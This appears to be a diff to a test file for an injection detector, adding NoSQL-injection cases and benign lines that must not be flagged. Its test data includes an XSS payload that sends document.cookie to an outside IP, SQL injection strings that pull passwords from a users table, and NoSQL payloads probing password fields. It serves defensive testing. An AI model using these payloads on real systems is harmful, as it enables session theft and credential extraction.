@@ -46,6 +46,8 @@ test.each([
     'an answer that is kept',
     'ask: function() {\n  var seats = prompt("Enter the number of seats:", "");\n  if (!seats)\n    return;',
   ],
+  ['what is called when something else is so', 'isOpen && this.close()'],
+  ['the same among other lines', '      isOpen && this.serve(menu)\n      return this\n    }'],
   ['a script that looks for its shell', '(PATH=/bin; FPATH=$PATH; sh -c :) >/dev/null 2>&1 ||\n  SEPARATOR=none'],
 ])('%s is no attack', (_, line) => {
   expect(typesIn(line)).toEqual([]);
@@ -64,6 +66,10 @@ test.each([
   ['xss', `},\ndocument.cookie = \`\${a}\${fetch('//203.0.113.9/' + document.cookie)}\`;\n{`],
   ['xss', '},\ndocument.cookie = a + alert(1);\n{'],
   ['xss', "'-(document.cookie = a + 1)-'"],
+  ['nosql_injection', 'false && this.a() || this.password == 1'],
+  ['nosql_injection', `false && this.a("${'x'.repeat(200)}") || this.password == 1`],
+  ['nosql_injection', '1 && this.hasOwnProperty("secret")'],
+  ['nosql_injection', "' && this.a() && '"],
   ['nosql_injection', "say 'the name of the menu ' && this.password.match(/^a/)//"],
   ['sql_injection', "say 'the name of the menu ' union select password from users--"],
   ['sql_injection', "say 'the name of the menu ' or 'a'='a"],
